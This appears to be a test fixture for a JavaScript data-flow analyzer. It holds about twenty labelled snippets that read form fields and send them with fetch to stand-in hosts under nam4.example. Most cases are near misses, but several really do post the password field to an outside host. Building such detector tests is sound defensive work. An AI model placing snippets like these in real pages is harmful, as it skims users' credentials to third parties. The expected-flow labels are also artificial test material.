//# object-assign-two-targets
// flow: email > tgt.nam4.example via fetch
// why: near miss: the password is copied onto the other target
const t1 = Object.assign({}, { v: document.querySelector('input[type=email]').value });
const t1b = Object.assign({}, { v: document.querySelector('input[type=password]').value });
fetch('https://tgt.nam4.example/', { method: 'POST', body: t1.v });
console.log(t1b.v.length);

//# object-create-own-slots
// flow: phone > crt.nam4.example via fetch
// why: near miss: both objects share a prototype, the slot is each one's own
const proto2 = { read() { return this.slot; } };
const one2 = Object.create(proto2);
const two2 = Object.create(proto2);
one2.slot = document.querySelector('input[type=tel]').value;
two2.slot = document.querySelector('input[type=password]').value;
fetch('https://crt.nam4.example/', { method: 'POST', body: one2.read() });

//# constructor-function-instances
// flow: username > ctor.nam4.example via fetch
// why: near miss: the password is in the other instance
function Holder3(v) { this.value = v; }
Holder3.prototype.text = function () { return '' + this.value; };
const user3 = new Holder3(document.querySelector('input[name=username]').value);
const secret3 = new Holder3(document.querySelector('input[type=password]').value);
fetch('https://ctor.nam4.example/?u=' + user3.text());
console.log(secret3.text().length);

//# swap-by-pattern
// flow: password > swp.nam4.example via fetch
// why: the names change places before the first is sent
let a4 = document.querySelector('input[type=email]').value;
let b4 = document.querySelector('input[type=password]').value;
[a4, b4] = [b4, a4];
fetch('https://swp.nam4.example/', { method: 'POST', body: a4 });

//# shared-reference
// flow: password > ref.nam4.example via fetch
// why: both names stand for one object
const first5 = {};
const second5 = first5;
second5.pw = document.querySelector('input[type=password]').value;
fetch('https://ref.nam4.example/', { method: 'POST', body: JSON.stringify(first5) });

//# copy-is-not-shared
// no flow
// why: the copy was made before the password was put into it
const base6 = { n: 1 };
const copy6 = { ...base6 };
copy6.pw = document.querySelector('input[type=password]').value;
fetch('https://cpy.nam4.example/', { method: 'POST', body: JSON.stringify(base6) });

//# nested-pattern-with-rename
// flow: email > npt.nam4.example via fetch
// why: near miss: the inner pattern takes another name
const { user: { mail: picked7 } } = { user: { mail: document.querySelector('input[type=email]').value, pass: document.querySelector('input[type=password]').value } };
fetch('https://npt.nam4.example/', { method: 'POST', body: picked7 });

//# default-parameter-not-used
// flow: email > dpm.nam4.example via fetch
// why: near miss: the default is not reached, the argument is given
function send8(v = document.querySelector('input[type=password]').value) { fetch('https://dpm.nam4.example/', { method: 'POST', body: v }); }
send8(document.querySelector('input[type=email]').value);

//# rest-parameters-second
// flow: phone > rps.nam4.example via fetch
// why: near miss: the first argument is not one of the rest
function tail9(first, ...others) { fetch('https://rps.nam4.example/', { method: 'POST', body: others.join() }); return first; }
tail9(document.querySelector('input[type=password]').value, document.querySelector('input[type=tel]').value);

//# bound-argument
// flow: email > bnd.nam4.example via fetch
// why: near miss: bind fixes the first argument, the password is the unused third
const post10 = function (body, kind, unused) { fetch('https://bnd.nam4.example/' + kind, { method: 'POST', body }); };
post10.bind(null, document.querySelector('input[type=email]').value)('k', document.querySelector('input[type=password]').value);

//# two-hosts-by-class-field
// flow: email > a.fld.nam4.example via fetch
// flow: password > b.fld.nam4.example via fetch
// why: near miss: each client has its own host
class Client11 { constructor(url) { this.url = url; } send(v) { fetch(this.url, { method: 'POST', body: v }); } }
const ca11 = new Client11('https://a.fld.nam4.example/');
const cb11 = new Client11('https://b.fld.nam4.example/');
ca11.send(document.querySelector('input[type=email]').value);
cb11.send(document.querySelector('input[type=password]').value);

//# method-shorthand-overridden
// flow: email > sub.nam4.example via fetch
// why: near miss: the subclass reads the e-mail, the base class would read the password
class Base12 { read() { return document.querySelector('input[type=password]').value; } run() { fetch('https://sub.nam4.example/', { method: 'POST', body: this.read() }); } }
class Sub12 extends Base12 { read() { return document.querySelector('input[type=email]').value; } }
new Sub12().run();

//# subscriber-of-other-store
// flow: email > sta.nam4.example via fetch
// why: near miss: the second store has no subscriber
function store13() { const subs = []; return { subscribe(f) { subs.push(f); }, set(v) { subs.forEach((f) => f(v)); } }; }
const s13a = store13();
const s13b = store13();
s13a.subscribe((v) => fetch('https://sta.nam4.example/', { method: 'POST', body: v }));
s13a.set(document.querySelector('input[type=email]').value);
s13b.set(document.querySelector('input[type=password]').value);

//# switch-by-constant-action
// flow: search > act.nam4.example via fetch
// why: near miss: only the action search is dispatched
function reduce14(state, action) {
  switch (action.type) {
    case 'search': return { ...state, q: document.querySelector('input[type=search]').value };
    case 'login': return { ...state, q: document.querySelector('input[type=password]').value };
    default: return state;
  }
}
fetch('https://act.nam4.example/', { method: 'POST', body: JSON.stringify(reduce14({}, { type: 'search' })) });

//# table-of-readers
// flow: email > tbl.nam4.example via fetch
// why: near miss: only one entry of the table is called
const read15 = { mail: () => document.querySelector('input[type=email]').value, pass: () => document.querySelector('input[type=password]').value };
fetch('https://tbl.nam4.example/', { method: 'POST', body: read15['mail']() });

//# entries-filtered-by-key
// flow: email > efk.nam4.example via fetch
// why: near miss: the entries of the password are filtered out
const form16 = { email: document.querySelector('input[type=email]').value, password: document.querySelector('input[type=password]').value };
fetch('https://efk.nam4.example/', { method: 'POST', body: JSON.stringify(Object.fromEntries(Object.entries(form16).filter(([k]) => k !== 'password'))) });

//# stringify-with-list
// flow: email > rep.nam4.example via fetch
// why: near miss: JSON.stringify writes only the listed keys
const form17 = { email: document.querySelector('input[type=email]').value, password: document.querySelector('input[type=password]').value };
fetch('https://rep.nam4.example/', { method: 'POST', body: JSON.stringify(form17, ['email']) });

//# promise-all-position
// flow: phone > pal.nam4.example via fetch
// why: near miss: the second answer is not sent
Promise.all([Promise.resolve(document.querySelector('input[type=tel]').value), Promise.resolve(document.querySelector('input[type=password]').value)])
  .then(([p]) => fetch('https://pal.nam4.example/', { method: 'POST', body: p }));

//# find-by-name
// flow: email > fbn.nam4.example via fetch
// why: near miss: the row that is looked for holds the e-mail
const rows19 = [{ k: 'e', v: document.querySelector('input[type=email]').value }, { k: 'p', v: document.querySelector('input[type=password]').value }];
fetch('https://fbn.nam4.example/', { method: 'POST', body: rows19.find((r) => r.k === 'e').v });

//# slice-of-list
// flow: email > slc.nam4.example via fetch
// why: near miss: the slice ends before the password
const list20 = [document.querySelector('input[type=email]').value, document.querySelector('input[type=password]').value];
fetch('https://slc.nam4.example/', { method: 'POST', body: list20.slice(0, 1).join() });
